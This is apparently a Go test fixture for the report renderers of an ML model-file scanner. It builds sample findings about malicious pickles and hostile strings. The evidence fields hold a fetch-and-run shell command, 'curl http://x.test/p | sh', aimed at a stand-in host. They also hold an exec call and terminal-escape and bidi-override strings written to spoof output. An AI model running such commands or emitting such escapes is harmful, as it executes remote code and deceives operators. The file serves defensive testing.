package report

import (
	"time"

	"github.com/modelward/modelward/finding"
	"github.com/modelward/modelward/scan"
)

// Test reports are built by hand, so every renderer sees the same awkward
// cases: all severities, archive member chains, offsets and none, paths
// with spaces and non-ASCII characters, a file that could not be read.

func loc(path string, offset int64, member ...string) finding.Location {
	return finding.Location{Path: path, Member: member, Offset: offset}
}

func fnd(rule string, sev finding.Severity, l finding.Location, msg string, ev finding.Evidence) finding.Finding {
	return finding.Finding{Rule: rule, Severity: sev, Location: l, Message: msg, Evidence: ev}
}

func emptyReport() *scan.Report { return &scan.Report{} }

const (
	pathEvil    = "models/evil model.pt"
	pathUnicode = "models/ñandú/模型.pkl"
	pathBundle  = "bundle.7z"
	pathBroken  = "unreadable weights.bin"
	pathClean   = "clean.safetensors"
	pathNotes   = "notes.txt"
)

func mixedReport() *scan.Report {
	return &scan.Report{
		Files: []scan.FileResult{
			evilFile(), unicodeFile(), bundleFile(),
			{Path: pathBroken, Verdict: scan.Failed, Error: "open unreadable weights.bin: permission denied"},
			{Path: pathClean, Size: 4096, Format: "safetensors", Verdict: scan.Clean,
				Streams: []string{"header"}, Duration: 2 * time.Millisecond},
			{Path: pathNotes, Size: 12, Verdict: scan.Unrecognised, Findings: []finding.Finding{
				fnd(finding.FormatUnknown, finding.Info, loc(pathNotes, -1), "Not a recognised model format", finding.Evidence{}),
			}},
		},
		Bytes:    1<<20 + 4096 + 12 + 2048 + 700,
		Duration: 1500 * time.Millisecond,
	}
}

func evilFile() scan.FileResult {
	const inner = "evil model/data.pkl"
	return scan.FileResult{
		Path: pathEvil, Size: 1 << 20, Format: "pytorch-zip", Verdict: scan.Malicious,
		Streams:  []string{inner},
		Duration: 12 * time.Millisecond,
		// Deliberately unsorted: renderers must sort.
		Findings: []finding.Finding{
			fnd(finding.ArchiveAnomaly, finding.Low, loc(pathEvil, -1, inner), "CRC-32 of the member does not match its header",
				finding.Evidence{Detail: "crc32 0x1badb002, header says 0xdeadbeef"}),
			fnd(finding.PickleDangerous, finding.Critical, loc(pathEvil, 52, inner), "Pickle imports posix.system, which runs a shell command",
				finding.Evidence{Import: "posix.system", Call: "posix.system('curl http://x.test/p | sh')", Args: []string{"'curl http://x.test/p | sh'"}}),
			fnd(finding.FormatMismatch, finding.Low, loc(pathEvil, -1), "Extension .pt but content is a zip of pickles",
				finding.Evidence{Detail: "extension .pt, content pytorch-zip"}),
		},
	}
}

func unicodeFile() scan.FileResult {
	return scan.FileResult{
		Path: pathUnicode, Size: 2048, Format: "pickle", Verdict: scan.Suspicious,
		Streams: []string{"pickle stream 0"},
		Findings: []finding.Finding{
			fnd(finding.PickleUnknownImport, finding.Medium, loc(pathUnicode, 10), "Pickle imports sklearn.pipeline.Pipeline, which is not on the allowlist",
				finding.Evidence{Import: "sklearn.pipeline.Pipeline"}),
			fnd(finding.PickleFrame, finding.High, loc(pathUnicode, 2), "FRAME says 40 bytes but its opcodes take 38",
				finding.Evidence{Detail: "frame length 40, opcodes 38"}),
			fnd(finding.ObjectArray, finding.Info, loc(pathUnicode, 0), "NumPy object array; its pickle was scanned", finding.Evidence{}),
		},
	}
}

func bundleFile() scan.FileResult {
	return scan.FileResult{
		Path: pathBundle, Size: 700, Format: "7z", Verdict: scan.NotInspected,
		Streams: []string{"inner.zip", "inner.zip!/weights/data.pkl"},
		Findings: []finding.Finding{
			fnd(finding.NotInspected, finding.High, loc(pathBundle, -1, "secret.zip"), "Member is encrypted and was not inspected",
				finding.Evidence{Detail: "AES-256 encrypted entry"}),
			fnd(finding.PickleNested, finding.High, loc(pathBundle, 130, "inner.zip", "weights/data.pkl"), "Pickle hands embedded bytes to pickle.loads",
				finding.Evidence{Import: "pickle.loads", Call: "pickle.loads", Args: []string{"b'\\x80\\x04\\x95...'"}}),
			fnd(finding.PickleDenied, finding.Critical, loc(pathBundle, 7, "inner.zip", "weights/data.pkl"), "Pickle imports builtins.exec, denied by policy",
				finding.Evidence{Import: "builtins.exec", Call: "builtins.exec('import os')"}),
		},
	}
}

// hostileReport carries terminal escapes, newlines, bidi overrides and
// invalid UTF-8 in every string a scanned file controls.
func hostileReport() *scan.Report {
	const evil = "a\x1b[2J\x1b]0;pwned\x07b\nCLEAN c\r\u202etxt.exe\xff\\"
	return &scan.Report{Files: []scan.FileResult{{
		Path: "dir/" + evil, Format: evil, Verdict: scan.Malicious, Streams: []string{evil},
		Error: evil,
		Findings: []finding.Finding{fnd(finding.PickleDangerous, finding.Critical, loc("dir/"+evil, 3, evil, evil), evil,
			finding.Evidence{Import: evil, Call: evil, Args: []string{evil}, Detail: evil})},
	}}}
}

// unknownRuleReport has a finding whose rule is in no catalogue.
func unknownRuleReport() *scan.Report {
	return &scan.Report{Files: []scan.FileResult{{
		Path: "m.pkl", Format: "pickle", Verdict: scan.Suspicious,
		Findings: []finding.Finding{fnd("MW999", finding.High, loc("m.pkl", 4), "", finding.Evidence{})},
	}}}
}
